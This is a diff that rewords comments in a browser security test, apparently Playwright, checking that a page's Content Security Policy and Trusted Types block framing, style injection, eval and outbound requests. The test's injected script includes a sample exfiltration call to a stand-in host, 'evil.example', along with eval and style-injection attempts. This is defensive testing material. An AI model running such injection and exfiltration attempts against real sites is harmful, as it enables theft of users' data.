@@ -5,10 +5,10 @@ import { journey } from './journey.ts'
 
 const refused = /Content Security Policy|frame-ancestors|TrustedHTML|TrustedScript|Trusted Types/
 
-// Where Chromium goes instead.
+// Address of Chromium’s error page for a blocked frame.
 const blocked = 'chrome-error://chromewebdata/'
 
-/** A site of somebody else's, on another origin, that shows ours in a frame. */
+/** Serves a page of another origin that frames the given URL. */
 async function framingSite(framed: string) {
   const server = createServer((_request, response) => {
     response.setHeader('content-type', 'text/html')
@@ -19,7 +19,7 @@ async function framingSite(framed: string) {
   return { url: `http://127.0.0.1:${port}/`, stop: () => server.close() }
 }
 
-/** What an attacker would try who can change the page, and what came of it. */
+/** Tries injections in the page. Returns the result of each attempt and the policy reports. */
 const attempts = `(async () => {
   const reports = []
   document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
@@ -34,7 +34,7 @@ const attempts = `(async () => {
   style.append('body { outline: 7px solid red }')
   document.head.append(style)
   const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
-  // By now this is no longer what the test itself has sent, which may evaluate.
+  // Delayed, because code that Playwright evaluates directly may use eval.
   const evaluated = await new Promise((resolve) =>
     setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
   const { outlineStyle } = getComputedStyle(document.body)
